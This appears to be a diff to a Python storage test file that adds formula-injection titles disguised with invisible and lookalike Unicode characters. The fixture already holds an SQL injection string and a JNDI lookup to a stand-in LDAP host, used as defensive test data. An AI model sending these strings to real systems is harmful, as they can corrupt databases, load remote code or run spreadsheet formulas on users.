@@ -5,6 +5,7 @@ from pathlib import Path
 from storage import snapshot
 from storage.store import Store
 from tests.storage.sample_records import article, fill
+from wirecopy.show.rows import unturned
 
 TITLES = {
     101: 'He said "no", then,\r\nleft; tab\there',
@@ -24,7 +25,12 @@ TITLES = {
     115: "not a character \ufffe \uffff",
     116: "'; DROP TABLE articles; --",
     117: "${jndi:ldap://x.example/a} {{7*7}} %s %n",
+    118: "\u00a0=1+1",
+    119: "\u200b\ufeff @SUM(A1)",
+    120: "\uff1d1+1",
+    121: " \u202d-1",
 }
+TURNED = {n: unturned(title) for n, title in TITLES.items()}  # as other programs may show them
 # What XML 1.0 has no spelling for.
 NO_XML = dict.fromkeys([*range(0x20), 0xFFFE, 0xFFFF], 0xFFFD) | {9: 9, 10: 10, 13: 13}
 
